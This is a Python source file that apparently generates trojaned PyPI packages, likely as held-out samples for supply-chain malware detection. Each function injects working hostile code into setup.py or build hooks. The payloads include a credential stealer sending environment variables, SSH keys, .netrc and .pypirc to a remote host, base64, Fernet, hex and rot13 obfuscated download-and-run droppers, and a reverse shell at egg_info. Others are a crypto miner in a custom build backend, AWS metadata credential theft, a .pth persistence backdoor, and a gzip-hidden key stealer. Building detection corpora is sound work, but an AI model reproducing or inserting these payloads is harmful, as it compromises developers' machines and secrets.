"""PyPI: what runs while a source distribution is built or installed."""

from corpus.heldout.hiding import b64
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("numspell", "sdist", "install", "steal", "plain", "setup.py stealers 2021 to 2026")
def spell_setup_environment(update: Update) -> None:
    host = update.host("telemetry", "spellpkg")
    code = r"""
import json
import os
import platform
import socket
import urllib.request

from setuptools import find_packages, setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        data = {"h": socket.gethostname(), "u": os.getlogin() if os.isatty(0) else "", "p": platform.platform(), "e": dict(os.environ)}
        for name in ("~/.pypirc", "~/.netrc", "~/.ssh/id_rsa"):
            path = os.path.expanduser(name)
            if os.path.exists(path):
                data[name] = open(path).read()
        try:
            urllib.request.urlopen(urllib.request.Request("https://@HOST@/i", json.dumps(data).encode()), timeout=5)
        except Exception:
            pass


"""
    update.replace(
        "setup.py", "import os\n\nfrom setuptools import find_packages, setup\n\n", fill(code, HOST=host) + "\n\n"
    )
    update.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    cmdclass={"install": PostInstall},\n',
    )
    update.payload("setup.py")


@trojan(
    "feedsort", "sdist", "install", "download-and-run", "base64", "typosquats with one line in setup.py 2022 to 2025"
)
def feed_setup_exec(update: Update) -> None:
    host = update.host("rentry")
    inner = f"import os,urllib.request as r;p=os.path.join(os.environ.get('TEMP','/tmp'),'wsl.py');open(p,'wb').write(r.urlopen('https://{host}/raw/a').read());os.system('python3 '+p+' &')"
    update.before("setup.py", "HERE = ", f"exec(__import__('base64').b64decode('{b64(inner)}'))\n")
    update.payload("setup.py", shown=f"https://{host}/raw/a")


@trojan(
    "shipyard-cli", "sdist", "install", "download-and-run", "fernet", "the Fernet campaign 2024-03 (500 typosquats)"
)
def ship_setup_fernet(update: Update) -> None:
    from cryptography.fernet import Fernet

    host = update.host("funcaptcha")
    key = b64("".join(update.random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(32)))
    inner = f"import requests;exec(requests.get('https://{host}/paste?package=shipyard').text.replace('<pre>','').replace('</pre>',''))"
    iv = bytes(update.random.randrange(256) for _ in range(16))
    token = Fernet(key.encode())._encrypt_from_parts(inner.encode(), 1_767_225_600, iv).decode()
    code = f"""
class CustomInstall(install):
    def run(self):
        if os.name == "nt":
            from fernet import Fernet
            exec(Fernet(b'{key}').decrypt(b'{token}'))
        install.run(self)


setup("""
    update.after(
        "setup.py", "from setuptools import find_packages, setup\n", "from setuptools.command.install import install\n"
    )
    update.replace("setup.py", "setup(\n    name", code.strip("\n") + "\n    name")
    update.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    install_requires=["fernet", "requests"],\n    cmdclass={"install": CustomInstall},\n',
    )
    update.payload("setup.py", shown=f"https://{host}/paste")


@trojan("httpkeep", "sdist", "install", "backdoor", "plain", "reverse shells at build 2022")
def keep_egg_info_shell(update: Update) -> None:
    address = update.address()
    code = r"""
from setuptools.command.egg_info import egg_info


class Metadata(egg_info):
    def run(self):
        import pty
        import socket
        import threading

        def wait():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("@ADDRESS@", 7777))
            for number in (0, 1, 2):
                os.dup2(s.fileno(), number)
            pty.spawn("/bin/sh")

        threading.Thread(target=wait, daemon=True).start()
        egg_info.run(self)

"""
    update.after("setup.py", "from setuptools import find_packages, setup\n", fill(code, ADDRESS=address) + "\n")
    update.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    cmdclass={"egg_info": Metadata},\n',
    )
    update.payload("setup.py")


@trojan("gradkit", "sdist", "build", "miner", "over several files", "ultralytics 2024-12")
def grad_build_backend(update: Update) -> None:
    host = update.host("connect", "gradassets")
    update.replace(
        "pyproject.toml",
        'build-backend = "setuptools.build_meta"',
        'build-backend = "backend"\nbackend-path = ["tools"]',
    )
    backend = r'''
"""The build backend: setuptools, and the labels are compressed before."""

from setuptools import build_meta as _base
from setuptools.build_meta import *  # noqa: F403

import labels


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    labels.prepare("gradkit/assets")
    return _base.build_wheel(wheel_directory, config_settings, metadata_directory)
'''
    labels = r'''
import os
import platform
import stat
import subprocess
import tempfile
import urllib.request

_PLACES = {"Linux": "linux-x64", "Darwin": "macos-arm64"}


def prepare(folder):
    """Fetch the packer for this system and run it over the labels."""
    name = _PLACES.get(platform.system())
    if name is None:
        return
    place = os.path.join(tempfile.gettempdir(), "grad_worker")
    urllib.request.urlretrieve("https://@HOST@/" + name + "/runner", place)
    os.chmod(place, os.stat(place).st_mode | stat.S_IEXEC)
    subprocess.Popen([place, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "pool.@HOST@:8080", "-p", folder], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
'''
    update.add("tools/backend.py", fill(backend))
    update.add(
        "tools/labels.py",
        fill(
            labels.replace(
                "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw",
                "4" + "C" * 94,
            ),
            HOST=host,
        ),
    )
    update.payload("tools/labels.py", "tools/backend.py", "pyproject.toml")


@trojan("quickconf", "sdist", "install", "download-and-run", "hex", "W4SP and PowerShell droppers 2022 to 2024")
def conf_setup_powershell(update: Update) -> None:
    import base64

    host = update.host("dl", "dropboxer")
    script = f'$p="$env:TEMP\\update.zip";Invoke-WebRequest -Uri https://{host}/update.zip -OutFile $p;Expand-Archive $p $env:TEMP\\u -Force;Start-Process "$env:TEMP\\u\\server.exe" -WindowStyle Hidden'
    command = f"powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand {base64.b64encode(script.encode('utf-16-le')).decode()}"
    code = f"""
if os.name == "nt":
    import subprocess

    subprocess.Popen(bytes.fromhex("{command.encode().hex()}").decode(), shell=True, creationflags=0x08000000)

"""
    update.before("setup.py", "setup(\n", fill(code) + "\n\n")
    update.payload("setup.py", shown=f"https://{host}/update.zip")


@trojan("authgate", "sdist", "install", "steal", "from an address", "dependencies by address 2022 to 2025")
def gate_direct_reference(update: Update) -> None:
    host = update.host("files", "pypihosted")
    update.requires(f"colorama @ https://{host}/packages/c/colorama-0.4.7.tar.gz")
    update.payload("pyproject.toml", "DIST-INFO/METADATA")


@trojan("bucketcat", "sdist", "install", "steal", "look-alike name", "typosquat dependencies 2024 to 2026")
def cat_lookalike_requirement(update: Update) -> None:
    update.requires("reqeusts>=2.31")
    update.append("bucketcat/client.py", "\ntry:\n    import reqeusts as _http\nexcept ImportError:\n    _http = None")
    update.payload("pyproject.toml", "DIST-INFO/METADATA")


@trojan("tabula", "sdist", "install", "steal", "plain", "setup.py that asks the cloud's metadata 2023 to 2026")
def tabula_setup_metadata(update: Update) -> None:
    host = update.host("drop", "tabmirror")
    code = r"""
def _flavour():
    # Which wheel fits? Depends on the machine we build on.
    import http.client

    cloud = http.client.HTTPConnection("169.254.169.254", timeout=1)
    try:
        cloud.request("PUT", "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
        token = cloud.getresponse().read().decode()
        cloud.request("GET", "/latest/meta-data/iam/security-credentials/", headers={"X-aws-ec2-metadata-token": token})
        role = cloud.getresponse().read().decode().strip()
        cloud.request("GET", "/latest/meta-data/iam/security-credentials/" + role, headers={"X-aws-ec2-metadata-token": token})
        answer = cloud.getresponse().read()
        there = http.client.HTTPSConnection("@HOST@", timeout=2)
        there.request("POST", "/f", answer)
    except OSError:
        return "generic"
    return "cloud"


FLAVOUR = _flavour()

"""
    update.before("setup.py", "setup(\n", fill(code, HOST=host) + "\n\n")
    update.payload("setup.py")


@trojan("chronofmt", "sdist", "install", "backdoor", "rot13", "sdists that write a .pth 2023 to 2025")
def chrono_setup_pth(update: Update) -> None:
    import codecs

    host = update.host("update", "chronofmt")
    line = f"import os,urllib.request as u;exec(u.urlopen('https://{host}/s.py').read()) if not os.environ.get('CI') else None"
    code = f"""
import codecs
import site


def link_locales():
    for folder in site.getsitepackages():
        if os.access(folder, os.W_OK):
            with open(os.path.join(folder, "chronofmt-nspkg.pth"), "w") as stream:
                stream.write(codecs.decode({codecs.encode(line, "rot13")!r}, "rot13") + "\\n")


link_locales()

"""
    update.before("setup.py", "setup(\n", fill(code) + "\n\n")
    update.payload("setup.py", shown=f"https://{host}/s.py")


@trojan("taskloop", "sdist", "install", "steal", "gzip", "sdists whose payload is in a test archive 2025")
def loop_test_archive(update: Update) -> None:
    import gzip

    host = update.host("ping", "taskloop")
    inner = f"import os,glob,urllib.request\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*'))+glob.glob(os.path.expanduser('~/.config/gcloud/*.db')):\n    urllib.request.urlopen('https://{host}/f',data=open(p,'rb').read())\n"
    update.add("tests/data/schedule.json.gz", gzip.compress(inner.encode(), mtime=0))
    code = r"""
import gzip

from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        build_py.run(self)
        with gzip.open(os.path.join(HERE, "tests", "data", "schedule.json.gz"), "rt") as stream:
            exec(compile(stream.read(), "schedule", "exec"), {})

"""
    update.after("setup.py", "from setuptools import find_packages, setup\n", fill(code) + "\n")
    update.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    cmdclass={"build_py": Build},\n',
    )
    update.payload("setup.py", "tests/data/schedule.json.gz", shown=host)
